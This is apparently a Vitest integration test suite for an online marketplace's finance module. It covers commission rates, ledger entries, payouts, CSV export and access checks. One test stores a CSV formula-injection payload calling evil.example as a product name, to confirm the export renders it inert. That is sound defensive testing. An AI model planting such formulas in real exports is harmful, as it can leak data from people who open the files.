// A store's money through real flows (issue 30): an online purchase with a discount code paid at
// the test gateway and a cash-on-delivery order recorded by the seller, both moved to delivered;
// the frozen commission (a root's rate inherited by its child, a child's own rate, the platform
// default), the ledger's entries and balances, maturing after the return window (available_at
// moved back, as time would), the page's filters and the CSV file, and who may read and change what.
import { sql } from 'drizzle-orm'
import { beforeAll, describe, expect, it } from 'vitest'
import { newIdempotencyKey, type Schemas, unwrap } from '#sdk'
import type { Db } from '../../server/db/client'
import { queryRows } from '../../server/db/rows'
import * as t from '../../server/db/schema/index'
import { normalizeText } from '../../server/lib/persian'
import { refreshProductSummaries } from '../../server/modules/catalog/summary'
import { postDelivery } from '../../server/modules/finance/ledger'
import { buyer } from './fixtures/discounts'
import { makeCode, makeOffer, makeStore } from './fixtures/shop'
import { ownerOf, storeOrder } from './fixtures/store-record'
import { signInAdmin } from './fixtures/stores'
import { describeEachDb, signIn, type TestClient } from './harness'

let n = 0
const unique = () => `fin${Date.now().toString(36)}${(n++).toString(36)}`

async function category(db: Db, parentId: number | null, level: number) {
  const [c] = await db
    .insert(t.categories)
    .values({ slug: unique(), nameFa: `دسته ${n}`, level, parentId })
    .returning()
  return c.id
}

async function offerIn(db: Db, storeId: number, categoryId: number, price: number) {
  const name = `کالای ${unique()}`
  const [product] = await db
    .insert(t.products)
    .values({ slug: unique(), nameFa: name, categoryId, searchText: normalizeText(name) })
    .returning()
  const [offer] = await db.insert(t.offers).values({ productId: product.id, storeId, price, stock: 50 }).returning()
  await refreshProductSummaries(db, [product.id])
  return { offerId: offer.id, name }
}

/** Every entry's available_at `days` back: the return window passes. */
const age = (db: Db, storeId: number, days: number) =>
  db.execute(
    sql`update ledger_entries set available_at = available_at - make_interval(days => ${days}) where store_id = ${storeId}`,
  )

describeEachDb('finance', (server) => {
  const db = () => server().app.deps.db
  let admin: TestClient
  let seller: TestClient
  let store: { id: number; ownerId: number }
  const cats = { root: 0, child: 0, own: 0, plain: 0 }
  const offers = {} as Record<'inherited' | 'own' | 'plain', { offerId: number; name: string }>
  let onlineOrder: number
  let codOrder: number

  const move = (orderId: number, status: Schemas['OrderStatus']) =>
    unwrap(
      seller.api.PUT('/orders/{id}/status', {
        params: { path: { id: orderId }, query: { store_id: store.id } },
        body: { status, tracking_code: status === 'shipped' ? 'PST-12345678' : undefined },
      }),
    )
  const summary = (c = seller, id = store.id) =>
    unwrap(c.api.GET('/stores/{store_id}/finance', { params: { path: { store_id: id } } }))
  const ledger = (query: Record<string, unknown> = {}) =>
    unwrap(seller.api.GET('/stores/{store_id}/finance/ledger', { params: { path: { store_id: store.id }, query } }))
  const entrySum = async (storeId: number) =>
    (
      await queryRows<{ s: number }>(
        db(),
        sql`select coalesce(sum(amount), 0)::bigint as s from ledger_entries where store_id = ${storeId}`,
      )
    )[0].s

  beforeAll(async () => {
    admin = await signInAdmin(server())
    store = await makeStore(db())
    seller = await ownerOf(server(), store as never)
    cats.root = await category(db(), null, 1)
    cats.child = await category(db(), cats.root, 2)
    cats.own = await category(db(), cats.root, 2)
    cats.plain = await category(db(), null, 1)
    await unwrap(
      admin.api.PUT('/admins/commission-rates/{category_id}', {
        params: { path: { category_id: cats.root } },
        body: { rate_bp: 500 },
      }),
    )
    await unwrap(
      admin.api.PUT('/admins/commission-rates/{category_id}', {
        params: { path: { category_id: cats.own } },
        body: { rate_bp: 2_000 },
      }),
    )
    offers.inherited = await offerIn(db(), store.id, cats.child, 100_000)
    offers.own = await offerIn(db(), store.id, cats.own, 300_000)
    offers.plain = await offerIn(db(), store.id, cats.plain, 50_000)
  })

  it('shows the tree of rates: own, inherited from the root, and the platform default', async () => {
    const rates = await unwrap(admin.api.GET('/admins/commission-rates'))
    const of = (id: number) => rates.categories.find((c) => c.category_id === id)
    expect(of(cats.child)).toMatchObject({ rate_bp: null, effective_bp: 500, inherited_from: cats.root, level: 2 })
    expect(of(cats.own)).toMatchObject({ rate_bp: 2_000, effective_bp: 2_000, inherited_from: null })
    expect(of(cats.plain)).toMatchObject({ rate_bp: null, effective_bp: rates.default_bp, inherited_from: null })
    const ids = rates.categories.map((c) => c.category_id)
    expect(ids.indexOf(cats.root)).toBeLessThan(ids.indexOf(cats.child))
  })

  it('freezes an online order at payment: inherited, own and default rates, discount shares that add up', async () => {
    const c = await buyer(server())
    for (const [o, q] of [
      [offers.inherited, 1],
      [offers.own, 1],
      [offers.plain, 3],
    ] as const)
      await unwrap(c.api.POST('/public/cart/items', { body: { product_store_id: o.offerId, quantity: q } }))
    const code = unique().toUpperCase()
    await makeCode(db(), code, { type: 'percentage', value: 7 })
    const p = await unwrap(
      c.api.POST('/public/orders', {
        body: {
          address_id: c.addressId,
          shipping: [{ store_id: store.id, method: 'tipax' }],
          payment_method: 'online',
          discount_code: code,
        },
        params: { header: { 'Idempotency-Key': newIdempotencyKey() } },
      }),
    )
    onlineOrder = p.orders[0].id
    const before = await unwrap(
      seller.api.GET('/stores/{store_id}/finance/orders/{order_id}', {
        params: { path: { store_id: store.id, order_id: onlineOrder } },
      }),
    )
    expect(before.frozen).toBe(false)
    expect(before.items.every((i) => i.gross === null && i.commission === null)).toBe(true)
    expect(before.totals.net).toBeNull()

    const pay = await unwrap(c.api.POST('/payments/{purchase_id}/start', { params: { path: { purchase_id: p.id } } }))
    const back = await fetch(`${server().origin}${pay.redirect_url}/pay`, { method: 'POST', redirect: 'manual' })
    await fetch(back.headers.get('location') as string, { redirect: 'manual' })

    const money = await unwrap(
      seller.api.GET('/stores/{store_id}/finance/orders/{order_id}', {
        params: { path: { store_id: store.id, order_id: onlineOrder } },
      }),
    )
    expect(money).toMatchObject({ frozen: true, status: 'paid', payment_method: 'online', shipping_fee: 90_000 })
    const [order] = await queryRows<{ discount_amount: number }>(
      db(),
      sql`select discount_amount from orders where id = ${onlineOrder}`,
    )
    expect(order.discount_amount).toBeGreaterThan(0)
    expect(money.totals.discount).toBe(order.discount_amount)
    const byName = Object.fromEntries(money.items.map((i) => [i.name, i]))
    expect(byName[offers.inherited.name]).toMatchObject({ gross: 100_000, rate_bp: 500 })
    expect(byName[offers.own.name]).toMatchObject({ gross: 300_000, rate_bp: 2_000 })
    expect(byName[offers.plain.name]).toMatchObject({ gross: 150_000, quantity: 3, rate_bp: 1_000 })
    for (const i of money.items) {
      const net = (i.gross as number) - (i.discount as number)
      expect(i.commission).toBe(Math.round((net * (i.rate_bp as number)) / 10_000))
      expect(i.net).toBe(net - (i.commission as number))
    }
    expect(money.totals.net).toBe(money.items.reduce((s, i) => s + (i.net as number), 0) + 90_000)
    // A rate changed after payment does not rewrite a frozen order.
    await unwrap(
      admin.api.PUT('/admins/commission-rates/{category_id}', {
        params: { path: { category_id: cats.root } },
        body: { rate_bp: 900 },
      }),
    )
    await unwrap(
      admin.api.PUT('/admins/commission-rates/{category_id}', {
        params: { path: { category_id: cats.root } },
        body: { rate_bp: 500 },
      }),
    )
    expect((await summary()).pending).toBe(0)

    for (const s of ['processing', 'shipped', 'delivered'] as const) await move(onlineOrder, s)
    const after = await unwrap(
      seller.api.GET('/stores/{store_id}/finance/orders/{order_id}', {
        params: { path: { store_id: store.id, order_id: onlineOrder } },
      }),
    )
    expect(after.entries.map((e) => e.kind).sort()).toEqual(['sale', 'sale', 'sale', 'shipping'])
    expect(after.entries.reduce((s, e) => s + e.amount, 0)).toBe(after.totals.net)
    expect(after.entries.every((e) => e.state === 'pending')).toBe(true)
    const s = await summary()
    expect(s).toMatchObject({ pending: after.totals.net, available: 0, owed: 0, in_payout: 0, paid: 0 })
    const matures = Date.parse(s.next_available_at as string) - Date.parse(s.as_of)
    expect(Math.abs(matures - 7 * 86_400_000)).toBeLessThan(60_000)
  })

  it('enters nothing twice: delivering again, or posting the delivery again', async () => {
    const before = await entrySum(store.id)
    const count = (await ledger()).total
    await move(onlineOrder, 'delivered')
    await postDelivery(db(), onlineOrder)
    expect((await ledger()).total).toBe(count)
    expect(await entrySum(store.id)).toBe(before)
  })

  it('enters a delivery once when two moves race', async () => {
    const other = await makeStore(db())
    const owner = await ownerOf(server(), other as never)
    const o = await offerIn(db(), other.id, cats.plain, 40_000)
    const { orderId } = await storeOrder(owner, other.id, o.offerId, ['shipped'])
    const deliver = () =>
      owner.api.PUT('/orders/{id}/status', {
        params: { path: { id: orderId }, query: { store_id: other.id } },
        body: { status: 'delivered' },
      })
    const answers = await Promise.all([deliver(), deliver(), deliver()])
    for (const a of answers) expect([200, 409]).toContain(a.response.status)
    const entries = await queryRows<{ amount: number }>(
      db(),
      sql`select amount from ledger_entries where order_id = ${orderId}`,
    )
    expect(entries).toEqual([{ amount: -4_000 }])
  })

  it('debits the commission a cash-on-delivery order owes at delivery, frozen then', async () => {
    const pending = (await summary()).pending
    codOrder = (await storeOrder(seller, store.id, offers.own.offerId, ['shipped', 'delivered'])).orderId
    const money = await unwrap(
      seller.api.GET('/stores/{store_id}/finance/orders/{order_id}', {
        params: { path: { store_id: store.id, order_id: codOrder } },
      }),
    )
    expect(money).toMatchObject({ frozen: true, payment_method: 'cod', totals: { gross: 300_000, commission: 60_000 } })
    expect(money.entries).toMatchObject([
      { kind: 'commission', amount: -60_000, item_name: offers.own.name, state: 'pending' },
    ])
    expect((await summary()).pending).toBe(pending - 60_000)
  })

  it('makes the money available after the return window, and keeps the invariant with payouts', async () => {
    const total = await entrySum(store.id)
    await age(db(), store.id, 8)
    let s = await summary()
    expect(s).toMatchObject({ pending: 0, available: total, owed: 0, next_available_at: null })
    expect((await ledger()).items.every((e) => e.state === 'available')).toBe(true)

    // A run put two entries in a payout, one of them paid already (as the settlements module would).
    const entries = (await ledger({ kind: 'sale' })).items
    const [run] = await queryRows<{ id: number }>(
      db(),
      sql`insert into settlement_runs (minimum, cutoff) values (0, now()) returning id`,
    )
    const payout = async (status: string, entry: number, amount: number) => {
      const [p] = await queryRows<{ id: number }>(
        db(),
        sql`insert into payouts (run_id, store_id, amount, sheba, owner_name, status)
          values (${run.id}, ${store.id}, ${amount}, 'IR820540102680020817909002', 'مریم احمدی', ${status}) returning id`,
      )
      await db().execute(sql`update ledger_entries set payout_id = ${p.id} where id = ${entry}`)
    }
    await payout('pending', entries[0].id, entries[0].amount)
    const [run2] = await queryRows<{ id: number }>(
      db(),
      sql`insert into settlement_runs (minimum, cutoff) values (0, now()) returning id`,
    )
    const [paid] = await queryRows<{ id: number }>(
      db(),
      sql`insert into payouts (run_id, store_id, amount, sheba, owner_name, status, reference)
        values (${run2.id}, ${store.id}, ${entries[1].amount}, 'IR820540102680020817909002', 'مریم احمدی', 'paid', 'REF-1') returning id`,
    )
    await db().execute(sql`update ledger_entries set payout_id = ${paid.id} where id = ${entries[1].id}`)
    s = await summary()
    expect(s).toMatchObject({ in_payout: entries[0].amount, paid: entries[1].amount })
    expect(s.pending + s.available + s.in_payout + s.paid - s.owed).toBe(await entrySum(store.id))
    const states = Object.fromEntries((await ledger({ kind: 'sale' })).items.map((e) => [e.id, e.state]))
    expect(states[entries[0].id]).toBe('in_payout')
    expect(states[entries[1].id]).toBe('paid')
    const payouts = await unwrap(
      seller.api.GET('/stores/{store_id}/finance/payouts', { params: { path: { store_id: store.id } } }),
    )
    expect(payouts.total).toBe(2)
    expect(payouts.items[0]).toMatchObject({
      id: paid.id,
      status: 'paid',
      reference: 'REF-1',
      amount: entries[1].amount,
    })
  })

  it('shows what a store owes when its matured cash commissions exceed its credits', async () => {
    const cod = await makeStore(db())
    const owner = await ownerOf(server(), cod as never)
    const o = await offerIn(db(), cod.id, cats.plain, 80_000)
    await storeOrder(owner, cod.id, o.offerId, ['shipped', 'delivered'])
    await age(db(), cod.id, 8)
    const s = await summary(owner, cod.id)
    expect(s).toMatchObject({ pending: 0, available: 0, owed: 8_000 })
    expect(s.pending + s.available + s.in_payout + s.paid - s.owed).toBe(await entrySum(cod.id))
  })

  it('lets kept balances mature with time alone, and hears changes made by any process', async () => {
    const other = await makeStore(db())
    const owner = await ownerOf(server(), other as never)
    const enter = (cause: string, amount: number, at: ReturnType<typeof sql>) =>
      db().execute(sql`insert into ledger_entries (store_id, kind, cause, amount, available_at)
        values (${other.id}, 'sale', ${cause}, ${amount}, ${at})`)
    await enter(unique(), 1_000, sql`now() + interval '1.5 seconds'`)
    expect(await summary(owner, other.id)).toMatchObject({ pending: 1_000, available: 0 })
    // Nothing changes in the database: the kept entry becomes available when its time comes.
    await expect.poll(async () => (await summary(owner, other.id)).available, { timeout: 5_000 }).toBe(1_000)
    expect((await summary(owner, other.id)).pending).toBe(0)
    await enter(unique(), 500, sql`now() - interval '1 day'`)
    expect((await summary(owner, other.id)).available).toBe(1_500)
  })

  it('filters the ledger by Tehran days and kind, and pages it', async () => {
    const all = await ledger()
    expect(all.total).toBe(5)
    expect((await ledger({ kind: 'shipping' })).items).toMatchObject([
      { kind: 'shipping', amount: 90_000, item_name: null },
    ])
    expect((await ledger({ kind: 'commission' })).items).toHaveLength(1)
    expect((await ledger({ limit: 2, skip: 2 })).items.map((e) => e.id)).toEqual(all.items.slice(2, 4).map((e) => e.id))
    // The COD entry made ten days ago, as the Tehran day it fell on.
    await db().execute(
      sql`update ledger_entries set created_at = now() - interval '10 days' where order_id = ${codOrder}`,
    )
    const tehranDay = (ms: number) => new Date(ms + 3.5 * 3_600_000).toISOString().slice(0, 10)
    const then = tehranDay(Date.now() - 10 * 86_400_000)
    expect((await ledger({ from: then, to: then })).items.map((e) => e.kind)).toEqual(['commission'])
    expect((await ledger({ from: tehranDay(Date.now()) })).total).toBe(4)
    expect((await ledger({ to: tehranDay(Date.now() - 86_400_000) })).total).toBe(1)
    const bad = await seller.api.GET('/stores/{store_id}/finance/ledger', {
      params: { path: { store_id: store.id }, query: { from: '2026-11-20', to: '2026-11-19' } },
    })
    expect(bad.response.status).toBe(422)
    expect(bad.error?.detail).toBe('تاریخ پایان نباید پیش از تاریخ شروع باشد')
  })

  it('exports the ledger as a CSV for Excel: BOM, Persian headers, Jalali dates, plain amounts', async () => {
    const res = await seller.api.GET('/stores/{store_id}/finance/ledger.csv', {
      params: { path: { store_id: store.id }, query: { kind: 'sale' } },
      parseAs: 'arrayBuffer',
    })
    expect(res.response.status).toBe(200)
    expect(res.response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/)
    expect(res.response.headers.get('content-disposition')).toMatch(
      new RegExp(`^attachment; filename="ledger-${store.id}-14\\d\\d-\\d\\d-\\d\\d\\.csv"$`),
    )
    const bytes = new Uint8Array(res.data as ArrayBuffer)
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
    const lines = text.slice(1).trimEnd().split('\r\n')
    expect(lines[0]).toBe('شناسه,تاریخ,نوع,شرح,شماره سفارش,مبلغ (تومان),وضعیت,تاریخ آزادسازی')
    expect(lines).toHaveLength(4)
    const sales = (await ledger({ kind: 'sale' })).items
    for (const [i, line] of lines.slice(1).entries()) {
      const cells = line.split(',')
      expect(cells[0]).toBe(String(sales[i].id))
      expect(cells[1]).toMatch(/^14\d\d\/\d\d\/\d\d \d\d:\d\d$/)
      expect(cells[2]).toBe('فروش')
      expect(cells[4]).toBe(String(onlineOrder))
      expect(cells[5]).toBe(String(sales[i].amount))
    }
  })

  it('writes a product named as a formula inert in the CSV, and its commission debit as a number', async () => {
    const shop = await makeStore(db())
    const owner = await ownerOf(server(), shop as never)
    const offer = await makeOffer(db(), shop.id, 200_000, 5)
    const formula = '=HYPERLINK("http://evil.example/?leak","برای تخفیف کلیک کنید")'
    await db().update(t.products).set({ nameFa: formula }).where(sql`id = ${offer.productId}`)
    await storeOrder(owner, shop.id, offer.offerId, ['shipped', 'delivered'])
    const res = await owner.api.GET('/stores/{store_id}/finance/ledger.csv', {
      params: { path: { store_id: shop.id } },
      parseAs: 'text',
    })
    const lines = (res.data as unknown as string)
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n')
    // Cash on delivery: the store took the money, so its one entry is the commission it owes, named by the item.
    const line = lines.find((l) => l.includes(',کارمزد,')) as string
    // Quoted (it holds commas and quotes) and prefixed with ': Excel shows the text and runs nothing.
    expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?leak"",""برای تخفیف کلیک کنید"")",`)
    expect(lines.some((l) => /(^|,)"?[=+@]/.test(l))).toBe(false)
    expect(line).toMatch(/",\d+,-\d+,در انتظار آزادسازی,/) // the order, then the debit: a plain number Excel sums
  })

  describe('access and bad input', () => {
    it("keeps a store's money to its owner (and admins)", async () => {
      const other = await makeStore(db())
      const stranger = await ownerOf(server(), other as never)
      const customer = await signIn(server())
      const path = { store_id: store.id }
      expect((await stranger.api.GET('/stores/{store_id}/finance', { params: { path } })).response.status).toBe(404)
      expect(
        (await stranger.api.GET('/stores/{store_id}/finance/ledger.csv', { params: { path }, parseAs: 'text' }))
          .response.status,
      ).toBe(404)
      expect((await customer.api.GET('/stores/{store_id}/finance', { params: { path } })).response.status).toBe(403)
      expect((await customer.api.GET('/admins/commission-rates')).response.status).toBe(403)
      expect(
        (
          await seller.api.PUT('/admins/finance-settings', {
            body: { commission_default_bp: 0, settlement_minimum: 0 },
          })
        ).response.status,
      ).toBe(403)
      const foreign = await stranger.api.GET('/stores/{store_id}/finance/orders/{order_id}', {
        params: { path: { store_id: other.id, order_id: onlineOrder } },
      })
      expect(foreign.response.status).toBe(404)
      expect(foreign.error?.detail).toBe('سفارش یافت نشد')
      expect((await summary(admin)).available).toBeGreaterThan(0)
    })

    it('refuses a rate above 100 % or for an unknown category, changing nothing; clearing inherits again', async () => {
      const put = (category_id: number, rate_bp: number) =>
        admin.api.PUT('/admins/commission-rates/{category_id}', {
          params: { path: { category_id } },
          body: { rate_bp },
        })
      const tooHigh = await put(cats.own, 10_001)
      expect(tooHigh.response.status).toBe(422)
      expect(tooHigh.error?.detail).toBe('نرخ کارمزد باید بین ۰ تا ۱۰۰ درصد باشد')
      expect((await put(cats.own, -1)).response.status).toBe(422)
      expect((await put(999_999, 100)).response.status).toBe(404)
      const rates = await unwrap(admin.api.GET('/admins/commission-rates'))
      expect(rates.categories.find((c) => c.category_id === cats.own)?.rate_bp).toBe(2_000)
      const cleared = await unwrap(
        admin.api.DELETE('/admins/commission-rates/{category_id}', { params: { path: { category_id: cats.own } } }),
      )
      expect(cleared).toMatchObject({ rate_bp: null, effective_bp: 500, inherited_from: cats.root })
      const audit = await queryRows<{ action: string }>(
        db(),
        sql`select action from admin_audit where target_type = 'category' and target_id = ${cats.own} order by id`,
      )
      expect(audit.map((a) => a.action)).toEqual(['commission.set', 'commission.clear'])
    })

    it('changes the finance settings within their bounds, audited', async () => {
      const before = await unwrap(admin.api.GET('/admins/finance-settings'))
      const bad = await admin.api.PUT('/admins/finance-settings', {
        body: { commission_default_bp: 10_001, settlement_minimum: 0 },
      })
      expect(bad.response.status).toBe(422)
      const negative = await admin.api.PUT('/admins/finance-settings', {
        body: { commission_default_bp: 100, settlement_minimum: -1 },
      })
      expect(negative.response.status).toBe(422)
      expect(await unwrap(admin.api.GET('/admins/finance-settings'))).toEqual(before)
      const next = { commission_default_bp: 1_000, settlement_minimum: 250_000 }
      expect(await unwrap(admin.api.PUT('/admins/finance-settings', { body: next }))).toEqual(next)
      const [entry] = await queryRows<{ action: string }>(
        db(),
        sql`select action from admin_audit where target_type = 'platform' order by id desc limit 1`,
      )
      expect(entry.action).toBe('finance.settings')
    })
  })
})
